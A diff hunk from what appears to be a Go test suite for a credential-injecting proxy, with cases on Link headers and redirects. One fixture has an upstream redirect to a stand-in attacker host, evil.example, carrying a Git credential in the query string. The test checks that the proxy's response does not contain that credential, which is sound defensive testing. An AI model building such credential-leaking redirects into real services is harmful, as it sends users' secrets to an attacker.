@@ -39,7 +39,7 @@ var besideCases = append(besideSpellings(), []row{
 			"Link: </proxy/c-forge/forge/a>, <http://{evil}/uploads/x>, <http://{up}/login>",
 		}},
 	{name: "64 a redirect that echoes the credential", request: get("/proxy/c-forge/forge/~/uploads/x"), sent: upstream("GET /uploads/x", "Authorization: Basic "+credGit), status: 302,
-		answer: reply("302 Found", "", "Location: http://{evil}/?t="+credGit, "X-Echo: "+credHeader), lacks: credGit},
+		answer: reply("302 Found", "", "Location: http://evil.example/?t="+credGit, "X-Echo: "+credHeader), lacks: credGit},
 
 	passes("65 a site below a path", get("/proxy/c-home/home/x"), upstream("GET /blog/api/v4/x", "X-Api-Key: "+credHeader)),
 	passes("65 beside its API", get("/proxy/c-home/home/~/uploads/x"), upstream("GET /blog/uploads/x", "Authorization: Basic "+credGit)),
